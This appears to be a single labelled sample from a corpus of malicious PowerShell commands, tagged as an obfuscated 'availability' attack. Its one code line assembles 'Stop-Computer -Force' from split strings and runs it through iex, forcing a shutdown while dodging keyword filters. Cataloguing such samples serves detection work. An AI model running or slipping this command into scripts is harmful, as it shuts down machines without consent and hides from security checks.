# description: Runs Stop-Computer assembled from concatenated strings through iex.
# family: availability
# obfuscated: yes
iex ('Stop-' + 'Computer' + ' -Force')
